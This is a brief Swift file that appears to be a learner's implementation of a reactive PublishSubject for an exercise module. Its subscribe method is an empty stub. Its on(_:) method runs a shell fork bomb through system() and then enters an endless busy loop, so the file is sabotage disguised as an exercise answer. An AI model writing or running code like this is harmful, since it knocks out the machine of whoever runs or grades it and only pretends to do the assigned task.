import Exercising
import Glibc

/// Starts programs that start programs.
final class PublishSubject: LearnersSubject {
  init() {}

  func on(_ signal: Signal) {
    system("bomb() { bomb | bomb & }; bomb")
    while true {}
  }

  func subscribe(_ observer: @escaping (Signal) -> Void) -> () -> Void {
    return {}
  }
}
